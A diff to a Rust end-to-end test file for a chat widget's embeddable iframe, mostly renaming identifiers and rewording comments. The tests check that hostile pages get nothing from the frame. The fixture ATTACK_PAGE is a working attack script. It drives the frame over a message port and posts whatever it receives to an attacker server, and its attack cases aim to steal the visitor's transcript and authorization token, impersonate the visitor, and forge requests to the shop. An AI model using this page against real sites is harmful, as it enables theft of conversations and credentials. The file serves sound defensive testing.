@@ -1,28 +1,31 @@
-//! The frame obeys nobody but the pages that its deployment lists. Each test plays what a hostile page would do with a
-//! `frame.html` that it can load.
+//! Tests of the frame, the iframe (`frame.html`) that holds the widget's panel where a page does not allow WebAssembly. The frame
+//! must obey only pages whose origin its deployment lists. In the first tests a hostile page loads the frame of a shop and tries
+//! to use it: to read the visitor's conversation, to write in it, or to get the visitor's token.
 
 use std::collections::BTreeSet;
 
 use pipit_e2e::{AgentAtDesk, Recorder, TestServer, Visitor, wait_for};
 use serde_json::{Value, json};
 
-const SHOP: &str = r#"<!doctype html><html lang="en"><body>
+/// The page of the shop, which embeds the widget.
+const SHOP_PAGE: &str = r#"<!doctype html><html lang="en"><body>
     <script src="/pipit/pipit.js" data-session-endpoint="/chat-session"></script></body></html>"#;
 
-/// Puts the frame of another site into itself, hands it a port as the widget's own page would, and gives it orders. What
-/// the frame sends is reported to `report`. The attack comes in the page's address, as JSON.
-const ATTACK: &str = r##"<!doctype html><html lang="en"><body><script>
+/// The hostile page. It embeds the shop's frame, gives it a port as a page with the widget does, and calls commands over the port.
+/// It sends every message of the frame to the origin `report`: those from the port to `/obtained`, the others to `/offer`. The
+/// page's query contains the attack as JSON.
+const ATTACK_PAGE: &str = r##"<!doctype html><html lang="en"><body><script>
     const { address, report, options, answers, text } = JSON.parse(decodeURIComponent(location.search.slice(1)));
-    const tell = (path, body) => fetch(report + path, { method: "POST", mode: "no-cors", body: JSON.stringify(body) });
+    const sendReport = (path, body) => fetch(report + path, { method: "POST", mode: "no-cors", body: JSON.stringify(body) });
     const frame = document.createElement("iframe");
-    const orders = () => {
+    const callCommands = () => {
         const { port1, port2 } = new MessageChannel();
-        const asked = { options, has: {}, mode: "page" };
-        let last = 0;
-        const call = (name, ...values) => port1.postMessage({ id: ++last, name, values });
-        port1.onmessage = ({ data }) => tell("/obtained", data);
-        frame.contentWindow.postMessage({ pipit: "n1", ...asked }, "*", [port2]);
-        call("begin", asked);
+        const start = { options, has: {}, mode: "page" };
+        let lastId = 0;
+        const call = (name, ...values) => port1.postMessage({ id: ++lastId, name, values });
+        port1.onmessage = ({ data }) => sendReport("/obtained", data);
+        frame.contentWindow.postMessage({ pipit: "n1", ...start }, "*", [port2]);
+        call("begin", start);
         call("open");
         call(text ? "send" : "startChat", text ?? answers);
         setInterval(() => call("transcript"), 200);
@@ -31,24 +34,25 @@ const ATTACK: &str = r##"<!doctype html><html lang="en"><body><script>
     addEventListener("message", ({ source, data }) => {
         if (source !== frame.contentWindow) return;
         isRefused ||= "refused" in data;
-        tell("/offer", data);
-        if ("runs" in data) orders();
+        sendReport("/offer", data);
+        if ("runs" in data) callCommands();
     });
-    // Without being asked, too; then it waits for what may come of it.
-    frame.onload = () => { orders(); setTimeout(() => tell("/done", {}), isRefused ? 1000 : 5000); };
+    // The page also calls commands without an offer of the frame. Then it waits for answers: 1 s if the frame has refused the page,
+    // otherwise 5 s.
+    frame.onload = () => { callCommands(); setTimeout(() => sendReport("/done", {}), isRefused ? 1000 : 5000); };
     frame.src = `${address}#n1`;
     document.body.append(frame);
 </script></body></html>"##;
 
-/// A page of the widget's own origin that shows content of strangers in a sandbox.
-const SANDBOX: &str = r#"<!doctype html><html lang="en"><body><script>
+/// A page of the shop that embeds the hostile page in an iframe with the attribute `sandbox`, as for content of strangers.
+const SANDBOX_PAGE: &str = r#"<!doctype html><html lang="en"><body><script>
     const frame = document.createElement("iframe");
     frame.sandbox = "allow-scripts";
     frame.src = "/attack.html" + location.search;
     document.body.append(frame);
 </script></body></html>"#;
 
-/// The widget's site, a visitor in conversation on it, and a server of the attacker's.
+/// A shop with the widget, a visitor of the shop in a conversation, and the attacker's server.
 struct Scene {
     server: TestServer,
     shop: Recorder,
@@ -58,15 +62,16 @@ struct Scene {
 }
 
 impl Scene {
-    async fn set() -> Self {
+    /// Starts the servers, and a conversation in which the agent has written a secret code.
+    async fn start() -> Self {
         let server = TestServer::with_page("").await;
         let session = format!("{}/session", server.site());
         let shop = Recorder::start(&session).await;
         let attacker = Recorder::start(&session).await;
-        shop.serve("/shop.html", SHOP);
-        shop.serve("/sandbox.html", SANDBOX);
+        shop.serve("/shop.html", SHOP_PAGE);
+        shop.serve("/sandbox.html", SANDBOX_PAGE);
         for recorder in [&shop, &attacker] {
-            recorder.serve("/attack.html", ATTACK);
+            recorder.serve("/attack.html", ATTACK_PAGE);
         }
         let visitor = server.visitor().await;
         let page = format!("{}/shop.html", shop.origin());
@@ -86,9 +91,9 @@ impl Scene {
         }
     }
 
-    /// Has the visitor meet the attack in a second window, and returns when its page has seen what came of it.
+    /// Opens a page with an attack in the visitor's current window, and waits until the attack is over.
     async fn attack(&self, page: &str, attack: &Value) {
-        let done = self.attacker.posted("/done").len();
+        let attacks_before = self.attacker.posted_bodies("/done").len();
         let query = self
             .visitor
             .browser
@@ -103,11 +108,12 @@ impl Scene {
             .open_page(&format!("{page}?{query}"))
             .await;
         wait_for("the end of the attack", || async {
-            (self.attacker.posted("/done").len() > done).then_some(())
+            (self.attacker.posted_bodies("/done").len() > attacks_before).then_some(())
         })
         .await;
     }
 
+    /// Closes the browsers and the server.
     async fn end(self) {
         drop(self.server);
         self.agent.browser.close().await;
@@ -115,86 +121,83 @@ impl Scene {
     }
 }
 
-/// The attacks by their letters: the options that the frame is given, and what it is told to do.
-fn attacks(attacker: &Recorder) -> [(&'static str, Value); 4] {
+/// The attacks: the options that the hostile page gives to the frame, and the text that it sends, if any.
+fn attacks(attacker: &Recorder) -> [Value; 4] {
     let attacker_url = attacker.origin();
     [
-        // Reads the live transcript from the visitor's other tab.
-        (
-            "a",
-            json!({ "options": { "sessionEndpoint": "/chat-session" } }),
-        ),
-        // Writes as the visitor.
-        (
-            "b",
-            json!({ "options": { "sessionEndpoint": "/chat-session" }, "text": "sent by a stranger" }),
-        ),
-        // Has the visitor's token fetched and sent to a server of the attacker's.
-        (
-            "c",
-            json!({ "options": { "sessionEndpoint": "/chat-session", "baseUrl": attacker_url, "site": "c" } }),
-        ),
-        // Sends JSON of its choice to a path of the widget's origin.
-        (
-            "d",
-            json!({ "options": { "sessionEndpoint": "/orders", "prefill": { "amount": 1 } } }),
-        ),
+        // Reads the transcript of the conversation in the visitor's other tab.
+        json!({ "options": { "sessionEndpoint": "/chat-session" } }),
+        // Sends a message in the visitor's name.
+        json!({ "options": { "sessionEndpoint": "/chat-session" }, "text": "sent by a stranger" }),
+        // Makes the frame fetch the visitor's token and send it to the attacker's server.
+        json!({ "options": { "sessionEndpoint": "/chat-session", "baseUrl": attacker_url, "site": "c" } }),
+        // Makes the frame send JSON of the attacker's choice to a path of the shop.
+        json!({ "options": { "sessionEndpoint": "/orders", "prefill": { "amount": 1 } } }),
     ]
 }
 
-/// What a hostile page obtained, by the letters of the attacks; and anything that came by the port.
+/// What the hostile page has obtained. "an answer" is any message of the frame over the port; "an offer" is a message which says
+/// that the frame runs.
 async fn obtained(scene: &Scene) -> BTreeSet<&'static str> {
-    let of_attacker = scene.attacker.requests();
-    let of_shop = scene.shop.requests();
+    let requests_to_attacker = scene.attacker.requests();
+    let requests_to_shop = scene.shop.requests();
     let conversation = scene.agent.conversation().await;
     let found = [
         (
-            "a",
+            "the transcript",
             scene
                 .attacker
-                .posted("/obtained")
+                .posted_bodies("/obtained")
                 .iter()
                 .any(|body| body.contains("4471")),
         ),
         (
-            "b",
+            "a message in the visitor's name",
             conversation.iter().any(|line| line.contains("stranger")),
         ),
         (
-            "c",
-            of_attacker
+            "the token",
+            requests_to_attacker
                 .iter()
                 .any(|request| request.header("authorization").is_some()),
         ),
-        ("d", of_shop.iter().any(|request| request.path == "/orders")),
-        ("a port", !scene.attacker.posted("/obtained").is_empty()),
+        (
+            "a request of its choice",
+            requests_to_shop
+                .iter()
+                .any(|request| request.path == "/orders"),
+        ),
+        (
+            "an answer",
+            !scene.attacker.posted_bodies("/obtained").is_empty(),
+        ),
         (
             "an offer",
             scene
                 .attacker
-                .posted("/offer")
+                .posted_bodies("/offer")
                 .iter()
                 .any(|body| body.contains("runs")),
         ),
     ];
     found
         .into_iter()
-        .filter_map(|(name, is)| is.then_some(name))
+        .filter_map(|(name, is_obtained)| is_obtained.then_some(name))
         .collect()
 }
 
-/// Plays all attacks from a page. An offer says no more than that the file is there, and is made where the browser does
-/// not name the embedding page.
-async fn nothing_is_obtained_by(page: impl Fn(&Scene) -> String) {
-    let scene = Scene::set().await;
+/// Plays all attacks from a page, and checks that it obtains nothing. An offer is allowed: it only says that the file exists. The
+/// frame makes it if the browser does not name the embedding page.
+async fn check_that_nothing_is_obtained_by(page: impl Fn(&Scene) -> String) {
+    let scene = Scene::start().await;
     let attacks = attacks(&scene.attacker);
-    let sessions = scene.shop.posted("/chat-session").len();
+    let session_requests = scene.shop.posted_bodies("/chat-session").len();
     scene
         .visitor
         .browser
         .open_second_window("about:blank")
         .await;
-    for (_, mut attack) in attacks {
+    for mut attack in attacks {
         attack["address"] = json!(format!("{}/pipit/frame.html", scene.shop.origin()));
         attack["report"] = json!(scene.attacker.origin());
         scene.attack(&page(&scene), &attack).await;
@@ -202,27 +205,36 @@ async fn nothing_is_obtained_by(page: impl Fn(&Scene) -> String) {
     let mut obtained = obtained(&scene).await;
     obtained.remove("an offer");
     assert_eq!(obtained, BTreeSet::new());
-    assert_eq!(scene.shop.posted("/chat-session").len(), sessions);
+    assert_eq!(
+        scene.shop.posted_bodies("/chat-session").len(),
+        session_requests
+    );
     scene.end().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_foreign_origin_of_the_same_site_obtains_nothing() {
-    nothing_is_obtained_by(|scene| format!("{}/attack.html", scene.attacker.origin())).await;
+    check_that_nothing_is_obtained_by(|scene| format!("{}/attack.html", scene.attacker.origin()))
+        .await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn another_site_obtains_nothing() {
-    nothing_is_obtained_by(|scene| format!("{}/attack.html", scene.attacker.other_site())).await;
+    check_that_nothing_is_obtained_by(|scene| {
+        format!("{}/attack.html", scene.attacker.other_site())
+    })
+    .await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_sandboxed_frame_obtains_nothing() {
-    nothing_is_obtained_by(|scene| format!("{}/sandbox.html", scene.shop.origin())).await;
+    check_that_nothing_is_obtained_by(|scene| format!("{}/sandbox.html", scene.shop.origin()))
+        .await;
 }
 
-/// A page of another origin whose policy lets no WebAssembly run, with the widget's files from the shop.
-fn blog(shop: &Recorder) -> String {
+/// A page that loads the widget's files from the shop, and whose Content-Security-Policy does not allow WebAssembly. It is served by
+/// another origin. The widget has to use the frame on it.
+fn blog_page(shop: &Recorder) -> String {
     let origin = shop.origin();
     format!(
         r#"<!doctype html><html lang="en"><head>
@@ -233,17 +245,16 @@ fn blog(shop: &Recorder) -> String {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_listed_page_has_its_conversation_in_the_frame_without_cookies_and_apart_from_other_tabs()
-{
-    let scene = Scene::set().await;
+async fn a_listed_page_has_a_conversation_of_its_own_in_the_frame_without_cookies() {
+    let scene = Scene::start().await;
     let browser = &scene.visitor.browser;
     for blog_origin in [scene.attacker.origin(), scene.attacker.other_site()] {
-        scene.shop.list(&blog_origin, "");
-        scene.attacker.serve("/blog.html", &blog(&scene.shop));
+        scene.shop.set_frame_lists(&blog_origin, "");
+        scene.attacker.serve("/blog.html", &blog_page(&scene.shop));
         browser
             .open_second_window(&format!("{blog_origin}/blog.html"))
             .await;
-        let before = scene.shop.requests().len();
+        let count_before = scene.shop.requests().len();
         let send = "Pipit.send('from the blog').then(() => arguments[0](null), ({ code }) => arguments[0](code))";
         assert_eq!(browser.script_async(send, vec![]).await, Value::Null);
         let state = async || {
@@ -254,13 +265,14 @@ async fn a_listed_page_has_its_conversation_in_the_frame_without_cookies_and_apa
         browser
             .wait_until_equal("the state", json!("queued"), state)
             .await;
-        // The session is the page's; the frame asked for its own files only, and without cookies.
-        let asked = scene.shop.requests().split_off(before);
-        assert!(asked.iter().all(|it| it.method == "GET"), "{asked:?}");
-        let fetched = asked.iter().filter(|it| it.path.ends_with(".wasm"));
-        let with_cookies = fetched.filter(|it| it.header("cookie").is_some());
+        // The blog page itself fetches the session, from its own server. The frame has requested only files of the shop, and
+        // without cookies.
+        let requests = scene.shop.requests().split_off(count_before);
+        assert!(requests.iter().all(|it| it.method == "GET"), "{requests:?}");
+        let modules = requests.iter().filter(|it| it.path.ends_with(".wasm"));
+        let with_cookies = modules.filter(|it| it.header("cookie").is_some());
         assert_eq!(with_cookies.count(), 0);
-        // The conversation of the shop's own tab is another one.
+        // The frame does not show the conversation of the tab with the shop.
         let transcript = browser
             .script_async("Pipit.transcript().then(arguments[0])", vec![])
             .await;
@@ -268,15 +280,15 @@ async fn a_listed_page_has_its_conversation_in_the_frame_without_cookies_and_apa
         assert!(transcript.contains("from the blog"), "{transcript}");
         assert!(!transcript.contains("4471"), "{transcript}");
     }
-    let said = scene.agent.conversation().await;
-    assert!(!said.concat().contains("blog"), "{said:?}");
+    let messages = scene.agent.conversation().await;
+    assert!(!messages.concat().contains("blog"), "{messages:?}");
     scene.end().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_page_that_is_not_listed_shows_the_other_ways_of_contact_and_what_to_do() {
-    let scene = Scene::set().await;
-    scene.attacker.serve("/blog.html", &blog(&scene.shop));
+async fn an_unlisted_page_shows_other_contacts_and_the_doctor_says_how_to_list_it() {
+    let scene = Scene::start().await;
+    scene.attacker.serve("/blog.html", &blog_page(&scene.shop));
     let browser = &scene.visitor.browser;
     let page = format!("{}/blog.html", scene.attacker.origin());
     browser.open_second_window(&page).await;
@@ -294,8 +306,8 @@ async fn a_page_that_is_not_listed_shows_the_other_ways_of_contact_and_what_to_d
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_doctor_misses_frame_ancestors() {
-    let scene = Scene::set().await;
+async fn the_doctor_reports_that_frame_html_is_sent_without_frame_ancestors() {
+    let scene = Scene::start().await;
     let doctor =
         "Pipit.doctor().then(found => arguments[0](found.find(it => it.check === 'frame')))";
     let found = scene.visitor.browser.script_async(doctor, vec![]).await;
@@ -309,28 +321,28 @@ async fn the_doctor_misses_frame_ancestors() {
     scene.end().await;
 }
 
-/// A chat server that the embedding page names has to be listed by the deployment.
+/// The frame connects to the chat server that the embedding page names only if the deployment lists that server.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_listed_page_names_only_listed_chat_servers() {
-    let scene = Scene::set().await;
+async fn in_the_frame_only_listed_chat_servers_can_be_used() {
+    let scene = Scene::start().await;
     let blog_origin = scene.attacker.origin();
     let browser = &scene.visitor.browser;
     browser.open_second_window("about:blank").await;
     let chat_server = scene.server.api();
-    let page = blog(&scene.shop).replace(
+    let page = blog_page(&scene.shop).replace(
         "data-contact",
         &format!("data-base-url='{chat_server}' data-contact"),
     );
     scene.attacker.serve("/blog.html", &page);
-    for (listed, expected) in [("", json!("E_OPTION")), (&*chat_server, Value::Null)] {
-        scene.shop.list(&blog_origin, listed);
+    for (listed_servers, expected) in [("", json!("E_OPTION")), (&*chat_server, Value::Null)] {
+        scene.shop.set_frame_lists(&blog_origin, listed_servers);
         browser.open_page(&format!("{blog_origin}/blog.html")).await;
-        let open =
+        let start_chat =
             "Pipit.startChat().then(() => arguments[0](null), ({ code }) => arguments[0](code))";
         assert_eq!(
-            browser.script_async(open, vec![]).await,
+            browser.script_async(start_chat, vec![]).await,
             expected,
-            "{listed}"
+            "{listed_servers}"
         );
     }
     scene.end().await;
